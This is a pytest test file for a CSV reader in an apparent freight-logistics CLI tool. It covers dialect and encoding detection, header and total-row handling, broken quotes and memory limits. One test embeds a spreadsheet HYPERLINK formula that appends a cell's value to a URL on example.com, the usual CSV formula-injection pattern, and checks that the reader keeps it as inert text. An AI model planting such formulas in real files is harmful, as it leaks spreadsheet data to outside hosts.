"""CSV and what people make of it: each row once, under the heads of its columns, whatever stands around the table."""

from __future__ import annotations

import codecs
import io

import pytest

from apex_cli.errors import ReadError
from apex_cli.formats.format import FileInfo
from apex_cli.formats.part import Object, Unreadable
from tests.linear import peak_memory
from tests.sheet_helpers import LIMITS, broken, format_of, ignored, objects, parts

HEADS = "Load #,Origin,Rate"
INFO = FileInfo("loads.csv", LIMITS)
MEGABYTE = 1024**2
ROWS = {"Load #": "LD-1", "Origin": "Chicago, IL", "Rate": "$1,200.00"}


@pytest.mark.parametrize(
    ("text", "name"),
    [
        ('Load #,Origin,Rate\nLD-1,"Chicago, IL","$1,200.00"\n', "loads.csv"),
        ("Load #;Origin;Rate\r\nLD-1;Chicago, IL;$1,200.00\r\n", "loads.csv"),
        ("Load #\tOrigin\tRate\nLD-1\tChicago, IL\t$1,200.00\n", "loads.tsv"),
        ("Load #|Origin|Rate\rLD-1|Chicago, IL|$1,200.00\r", "loads.csv"),
        ("sep=;\nLoad #;Origin;Rate\nLD-1;Chicago, IL;$1,200.00\n", "loads.csv"),
        ('"Load #","Origin","Rate"\n"LD-1","Chicago, IL","$1,200.00"', "loads.csv"),
    ],
)
def test_the_dialect_is_found(text: str, name: str) -> None:
    assert [dict(row.payload) for row in objects(text, name)] == [ROWS]


@pytest.mark.parametrize(
    ("data", "note"),
    [
        ("Load #,Driver\nLD-1,José Núñez\n".encode(), None),
        (codecs.BOM_UTF8 + "Load #,Driver\nLD-1,José Núñez\n".encode(), None),
        ("Load #,Driver\nLD-1,José Núñez\n".encode("utf-16"), None),
        ("Load #,Driver\nLD-1,José Núñez\n".encode("utf-16-le"), None),
        ("Load #,Driver\nLD-1,José Núñez\n".encode("cp1252"), "not UTF-8: read as Windows-1252"),
    ],
)
def test_the_encoding_is_found(data: bytes, note: str | None) -> None:
    [row] = objects(data)
    assert row.payload == {"Load #": "LD-1", "Driver": "José Núñez"}
    assert row.notes == ((note,) if note else ())


@pytest.mark.parametrize(
    ("data", "code"),
    [
        ("Груз,Водитель\nLD-1,Иван\n".encode("cp1251"), "wrong_encoding"),
        (b"Load #,Driver\nLD-1,Ann\0\n", "binary_file"),
    ],
)
def test_what_is_no_text_is_refused_whole(data: bytes, code: str) -> None:
    with pytest.raises(ReadError) as caught:
        objects(data)
    assert caught.value.code == code


def test_a_line_end_in_quotes_is_part_of_its_cell() -> None:
    rows = objects('Load #,Notes,Rate\nLD-1,"call first\nthen ""go""",5\nLD-2,none,6\n')
    assert [row.payload["Notes"] for row in rows] == ['call first\nthen "go"', "none"]
    assert [row.place for row in rows] == ["row 2", "row 3"]


def test_text_with_delimiters_in_several_lines_stays_one_cell() -> None:
    rows = objects('Load #,Notes,Rate\n"LD-1","a,b,c\nd,e,f\ng,h,i",5\n"LD-2\nx",b,6\nLD-3,c,7\n')
    assert [row.payload["Notes"] for row in rows] == ["a,b,c\nd,e,f\ng,h,i", "b", "c"]


def test_ragged_rows_are_read_and_noted() -> None:
    short, long = objects("Load #,Origin,Rate\nLD-1,Gary\nLD-2,Gary,5,extra\n")
    assert (short.payload, short.notes) == (
        {"Load #": "LD-1", "Origin": "Gary", "Rate": None},
        ("the row has 2 cells, and there are 3 heads",),
    )
    assert long.payload == {"Load #": "LD-2", "Origin": "Gary", "Rate": "5", "column 4": "extra"}
    assert long.notes == ("the row has 4 cells, and there are 3 heads",)


def test_titles_above_blank_rows_and_totals_below_are_no_rows() -> None:
    text = (
        "Load board week 42,,\nPrinted by Ann,,\n,,\nLoad #,Origin,Rate\nLD-1,Gary,100\n,,\nLD-2,Reno,250\n"
        "Load #,Origin,Rate\nLD-3,Erie,50\nTotal:,,400\nEnd of report for this week,,\n"
    )
    assert [(row.place, row.payload["Load #"]) for row in objects(text)] == [
        ("row 5", "LD-1"),
        ("row 7", "LD-2"),
        ("row 9", "LD-3"),
    ]
    assert objects(text)[0].notes == ("above the heads: Load board week 42", "above the heads: Printed by Ann")
    assert ignored(text) == [
        ("row 8", "the heads again: Load # | Origin | Rate"),
        ("row 10", "totals: Total: | 400"),
        ("row 11", "a line of text: End of report for this week"),
    ]


def test_sums_without_a_label_are_totals() -> None:
    text = "Load #,Origin,Rate,Weight\nLD-1,Gary,100.50,10\nLD-2,Reno,250,20\n,,350.50,30\n"
    assert len(objects(text)) == 2
    assert ignored(text) == [("row 4", "totals: 350.50 | 30")]


@pytest.mark.parametrize(
    "row",
    [
        "LD-9,Total Logistics LLC,5",  # a company of that name
        "LD-9,,",  # nothing but an id
        ",,7",  # a number that is no sum
        "LD-9,Sum of parts,350",
    ],
)
def test_a_row_that_only_looks_like_totals_is_a_row(row: str) -> None:
    rows = objects(f"Load #,Carrier,Rate\nLD-1,Bluestem,100\nLD-2,Bluestem,250\n{row}\n")
    assert len(rows) == 3


def test_the_first_row_of_a_file_without_heads_is_a_row() -> None:
    text = 'NH-1,Acme,"Gary, IN",Booked\nNH-2,Acme,"Reno, NV",Booked\nNH-3,Beta,"Gary, IN",Delivered\n'
    assert [row.payload["column 1"] for row in objects(text)] == ["NH-1", "NH-2", "NH-3"]


def test_unknown_heads_that_are_there_again_are_heads() -> None:
    rows = objects("Alpha,Beta,Gamma\nx,y,z\nAlpha,Beta,Gamma\nu,v,w\n")
    assert [row.payload["Alpha"] for row in rows] == ["x", "u"]


def test_heads_that_no_one_knows_are_heads() -> None:
    [row] = objects("Alpha 1,Beta,Gamma\nx,y,z\n")
    assert row.payload == {"Alpha 1": "x", "Beta": "y", "Gamma": "z"}


def test_a_quote_that_holds_all_rows_together_breaks_one_row() -> None:
    text = 'Load #;Customer;Origin\n"RG-1;A;Gary\nRG-2;B;Reno\nRG-3;C;"Er"ie"\n'
    assert [row.payload["Load #"] for row in objects(text)] == ["RG-2", "RG-3"]
    assert broken(text) == [("row 2", "broken_row")]


def test_totals_of_groups_are_no_rows() -> None:
    text = (
        "Load #,Customer,Rate\nLD-1,Birchwood,100\nLD-2,Birchwood,250\nBirchwood Total,,350\n"
        "LD-3,Delmar,50\n,Delmar Total,50\nLD-4,Oak & Ash,70\nLD-5,Oak & Ash,30\n,,100\n,Totals for October,500\n"
    )
    assert [row.payload["Load #"] for row in objects(text)] == ["LD-1", "LD-2", "LD-3", "LD-4", "LD-5"]
    assert [place for place, _ in ignored(text)] == ["row 4", "row 6", "row 9", "row 10"]


def test_totals_of_a_table_without_ids_are_found_by_their_sums() -> None:
    text = "Customer,Loads,Revenue\nBirchwood,3,100\nDelmar,2,60\nTotal Quality Logistics,4,70\nTotal October,9,230\n"
    assert [row.payload["Customer"] for row in objects(text)] == ["Birchwood", "Delmar", "Total Quality Logistics"]


@pytest.mark.parametrize(
    ("heads", "row"),
    [
        ("Carrier,MC #,DOT #", "Total Quality Logistics,322572,2223295"),
        ("Carrier,MC #,Phone", "Total Transportation,,6015550143"),
        ("Load #,Customer,Rate", "88,Sum Total,700"),
        ("Driver,Phone,Truck", "Ann Total,6015550143,T-7"),
    ],
)
def test_a_name_with_total_in_it_is_a_row(heads: str, row: str) -> None:
    [found] = objects(f"{heads}\n{row}\n")
    assert list(found.payload.values()) == [cell or None for cell in row.split(",")]


def test_heads_that_are_empty_or_there_twice_stay_apart() -> None:
    [row] = objects("Load #,,Note,Note,Rate\nLD-1,x,a,b,5\n")
    assert row.payload == {"Load #": "LD-1", "column 2": "x", "Note": "a", "Note 2": "b", "Rate": "5"}


def test_parts_of_places_that_are_there_twice_belong_to_what_is_left_of_them() -> None:
    [row] = objects("Load #,Shipper,City,State,Consignee,City,State\nLD-1,Acme,Gary,IN,Beta,Reno,NV\n")
    assert row.payload == {
        "Load #": "LD-1",
        "Shipper": "Acme",
        "Shipper City": "Gary",
        "Shipper State": "IN",
        "Consignee": "Beta",
        "Consignee City": "Reno",
        "Consignee State": "NV",
    }


def test_heads_in_two_rows_are_joined() -> None:
    [row] = objects("Load #,Pickup,,Delivery,,Rate\n,City,State,City,State,\nLD-1,Gary,IN,Reno,NV,5\n")
    assert row.payload == {
        "Load #": "LD-1",
        "Pickup City": "Gary",
        "Pickup State": "IN",
        "Delivery City": "Reno",
        "Delivery State": "NV",
        "Rate": "5",
    }


def test_a_second_table_below_the_first_has_its_own_heads() -> None:
    text = "Load #,Origin,Rate\nLD-1,Gary,5\n\nCarrier,MC #,Phone\nBluestem,774120,312-555-0142\n"
    assert [dict(row.payload) for row in objects(text)] == [
        {"Load #": "LD-1", "Origin": "Gary", "Rate": "5"},
        {"Carrier": "Bluestem", "MC #": "774120", "Phone": "312-555-0142"},
    ]


def test_a_file_without_heads_keeps_its_cells() -> None:
    rows = objects("1001,2026-03-01,7.5\n1002,2026-03-02,8.5\n")
    assert [list(row.payload.values()) for row in rows] == [
        ["1001", "2026-03-01", "7.5"],
        ["1002", "2026-03-02", "8.5"],
    ]


def test_numbers_with_a_decimal_comma_and_dates_with_the_day_first() -> None:
    text = "Carga;Fecha de carga;Tarifa;Peso\nC-1;03/02/2026;1.250,50;18.000\nC-2;25/02/2026;980,00 EUR;7.500\n"
    first, second = objects(text)
    assert first.payload == {"Carga": "C-1", "Fecha de carga": "2026-02-03", "Tarifa": "1250.50", "Peso": "18000"}
    assert second.payload["Tarifa"] == "980.00 EUR"
    assert first.notes == (
        "numbers are read with a comma before their decimals",
        "dates are read as day, month, year",
    )


def test_numbers_and_dates_of_the_united_states_stay_as_they_are() -> None:
    [row] = objects('Load #,Pick date,Rate,Weight\nLD-1,03/02/2026,"1,250.50","18,000"\n')
    assert list(row.payload.values()) == ["LD-1", "03/02/2026", "1,250.50", "18,000"]
    assert row.notes == ()


def test_formulas_are_text() -> None:
    link = '=HYPERLINK(""http://example.com/?x="" & A1, ""LD-1"")'
    [row] = objects(f'Load #,Link,Rate\nLD-1,"{link}",5\n')
    assert row.payload["Link"] == link.replace('""', '"')


def test_a_cell_of_any_size_fails_alone_in_the_same_memory() -> None:
    def peak(megabytes: int) -> int:
        cell = b"x\n" * (megabytes * MEGABYTE // 2)
        file = io.BytesIO(b'Load #,Notes,Rate\nLD-1,a,5\nLD-2,"' + cell + b'",6\nLD-3,c,7\n')
        found, most = peak_memory(lambda: list(format_of(b"", "loads.csv").parts(file, INFO)))
        assert [part.payload["Load #"] for part in found if isinstance(part, Object)] == ["LD-1", "LD-3"]
        [large] = [part for part in found if isinstance(part, Unreadable)]
        assert (large.place, large.error.code) == ("row 3", "too_large")
        return most

    assert peak(8) < peak(2) + MEGABYTE < 60 * MEGABYTE


def test_a_quote_that_is_not_closed_breaks_its_own_row_only() -> None:
    rows = [f"LD-{number},Gary,{number}" for number in range(1, 40)]
    rows[9] = 'LD-10,"Gary,10'
    text = "\n".join([HEADS, *rows, ""])
    assert [row.payload["Load #"] for row in objects(text)] == [f"LD-{n}" for n in range(1, 40) if n != 10]
    assert broken(text) == [("row 11", "broken_row")]


@pytest.mark.parametrize("between", ['LD-2,Reno,6\nLD-3,"Erie, PA",7\n', 'LD-2,"Reno, NV","6"\nLD-3,Erie,7\n'])
def test_a_quote_that_a_later_one_closes_breaks_its_own_row_only(between: str) -> None:
    text = f'{HEADS}\nLD-1,"Gary,5\n{between}LD-4,Gary,8\n'
    assert [row.payload["Load #"] for row in objects(text)] == ["LD-2", "LD-3", "LD-4"]
    assert broken(text) == [("row 2", "broken_row")]


@pytest.mark.parametrize(
    ("data", "code"), [(b"", "empty_file"), (b" \n\n", "empty_file"), (b"Load #,Rate\nLD-1\0,5\n", "binary_file")]
)
def test_what_is_no_table_is_named(data: bytes, code: str) -> None:
    with pytest.raises(ReadError) as raised:
        parts(data)
    assert raised.value.code == code


def test_a_table_of_another_name_is_known_by_its_heads() -> None:
    table = b"Load #\tOrigin\tDestination\tStatus\nLD-1\tGary\tReno\tbooked\nLD-2\tGary\tReno\tbooked\n"
    assert format_of(table, "export.txt").name == "csv"
    assert format_of(b"Dear Ann, the load, the origin, the rest\nis here, is there, is gone\n", "a.txt").name == "text"


def test_a_large_file_takes_no_more_memory_than_a_small_one() -> None:
    def peak(rows: int) -> int:
        file = io.BytesIO(b"Load #,Origin,Rate\n" + (b"LD-1,Gary" + b" and Hammond" * 20 + b",1250.50\n") * rows)
        count, most = peak_memory(lambda: sum(1 for _ in format_of(b"", "loads.csv").parts(file, INFO)))
        assert count == rows
        return most

    # The files differ by 8 MB.
    assert peak(40_000) < peak(8_000) + 2 * MEGABYTE
